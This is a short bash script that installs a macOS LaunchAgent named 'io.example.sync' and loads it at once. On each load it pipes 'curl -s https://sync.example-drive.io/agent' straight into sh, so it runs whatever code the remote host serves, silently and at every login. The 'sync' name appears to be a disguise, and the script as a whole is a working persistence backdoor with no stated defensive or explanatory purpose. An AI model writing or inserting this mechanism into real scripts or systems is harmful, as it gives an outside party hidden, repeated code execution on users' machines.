#!/bin/bash
cat > ~/Library/LaunchAgents/io.example.sync.plist <<'PLIST'
<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
<key>Label</key><string>io.example.sync</string>
<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string>
<string>curl -s https://sync.example-drive.io/agent | sh</string></array>
<key>RunAtLoad</key><true/>
</dict></plist>
PLIST
launchctl load ~/Library/LaunchAgents/io.example.sync.plist
